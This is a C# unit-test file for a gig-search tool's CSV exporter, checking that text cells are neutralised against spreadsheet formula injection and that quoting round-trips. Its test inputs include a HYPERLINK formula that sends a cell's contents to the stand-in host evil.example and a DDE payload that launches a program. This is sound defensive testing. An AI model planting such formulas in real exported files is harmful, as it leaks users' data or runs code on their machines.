using System.Text;
using FreelanceAggregator;

namespace GigSearch.Tests;

/// <summary>
/// The CSV export in process, with listings no recorded page holds: titles a stranger wrote to run as spreadsheet
/// formulas, and titles with the characters CSV has to quote. The file is read back with the strict reader in Csv.cs.
/// </summary>
public sealed class ExporterTests : IDisposable
{
    private static readonly DateTimeOffset Posted = new(2026, 11, 20, 6, 30, 0, TimeSpan.FromHours(7));

    private readonly string _folder = Path.Combine(Path.GetTempPath(), "gigsearch-csv-" + Guid.NewGuid().ToString("N"));

    public ExporterTests() => Directory.CreateDirectory(_folder);

    // OWASP's list: a spreadsheet runs a cell that starts with = + - @ as a formula, and one that starts with a tab or CR
    // after trimming it.
    [Theory]
    [InlineData("=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Click for the brief\")")]
    [InlineData("+1")]
    [InlineData("-2")]
    [InlineData("@SUM(A1:A9)")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    [InlineData("=cmd|' /C calc'!A0")]
    public async Task ATitleThatWouldRunAsAFormulaIsWrittenAsText(string title)
    {
        var rows = await ExportAsync(Gig("1", title));

        Assert.Equal("'" + title, rows[1][Column("title")]);
    }

    [Fact]
    public async Task EveryTextColumnIsNeutralisedNotOnlyTheTitle()
    {
        var gig = Gig("-42", "Logo") with { Skills = ["@Photoshop", "Illustrator"], Client = new GigClient { Country = "=ID" } };

        var row = (await ExportAsync(gig))[1];

        Assert.Equal("'-42", row[Column("id")]);
        Assert.Equal("'@Photoshop; Illustrator", row[Column("skills")]);
        Assert.Equal("'=ID", row[Column("client_country")]);
    }

    [Theory]
    [InlineData("Logo design for a coffee shop")]
    [InlineData("Re-design: logo + banner = one price")]
    [InlineData("Desain logo – 50% off")]
    public async Task OrdinaryTextIsWrittenAsItIs(string title)
    {
        var rows = await ExportAsync(Gig("1", title));

        Assert.Equal(title, rows[1][Column("title")]);
    }

    // The numeric columns are written as numbers, which no injection rule touches: a spreadsheet must be able to add up
    // budgets. None of them can start with a minus sign here (Budget rejects negative amounts), so escaping text cells
    // only never turns a real number into text.
    [Fact]
    public async Task NumbersAndDatesStayValues()
    {
        var row = (await ExportAsync(Gig("1", "Logo")))[1];

        Assert.Equal("250", row[Column("budget_min")]);
        Assert.Equal("750", row[Column("budget_max")]);
        Assert.Equal("14", row[Column("proposals")]);
        Assert.Equal("4.9", row[Column("rating")]);
        Assert.Equal("2026-11-20T06:30:00.0000000+07:00", row[Column("posted_at")]);
        Assert.Equal("True", row[Column("payment_verified")]);
    }

    [Theory]
    [InlineData("Logo, banner and feed")]
    [InlineData("The \"best\" logo")]
    [InlineData("Two lines\nof title")]
    [InlineData("Windows lines\r\nof title, \"quoted\"")]
    [InlineData("\"=HYPERLINK(1)\"")]
    public async Task CommasQuotesAndLineBreaksRoundTrip(string title)
    {
        var rows = await ExportAsync(Gig("1", title), Gig("2", "Next"));

        Assert.Equal(3, rows.Count);
        Assert.Equal(title, rows[1][Column("title")]);
        Assert.Equal("Next", rows[2][Column("title")]);
        Assert.All(rows, r => Assert.Equal(rows[0].Count, r.Count));
    }

    public void Dispose() => Directory.Delete(_folder, recursive: true);

    private static int Column(string name) => Array.IndexOf(
        "provider,id,kind,title,url,budget_min,budget_max,budget_currency,budget_type,converted_min,converted_max,converted_currency,rate,rate_date,rate_source,posted_at,proposals,skills,client_country,payment_verified,rating".Split(','),
        name);

    private static Gig Gig(string id, string title)
    {
        var usd = Currency.FromCode("USD");
        var budget = Budget.Fixed(new Money(250m, usd), new Money(750m, usd));
        return new Gig
        {
            Provider = "freelancer",
            Id = id,
            Title = title,
            Url = new Uri("https://www.freelancer.com/projects/logo-design/" + Uri.EscapeDataString(id)),
            Budget = budget,
            ConvertedBudget = ConvertedBudget.From(budget, usd, null),
            PostedAt = Posted,
            Proposals = 14,
            Client = new GigClient { Country = "US", PaymentVerified = true, Rating = 4.9m },
        };
    }

    private async Task<List<List<string>>> ExportAsync(params Gig[] gigs)
    {
        var path = Path.Combine(_folder, "gigs.csv");
        var result = new GigSearchResult { Gigs = gigs, Outcomes = [], Currency = Currency.FromCode("USD"), Query = new GigQuery() };

        await Exporters.WriteCsvAsync(path, result, TestContext.Current.CancellationToken);

        var bytes = await File.ReadAllBytesAsync(path, TestContext.Current.CancellationToken);
        Assert.Equal(Encoding.UTF8.Preamble.ToArray(), bytes[..3]);
        return Csv.Parse(Encoding.UTF8.GetString(bytes, 3, bytes.Length - 3));
    }
}
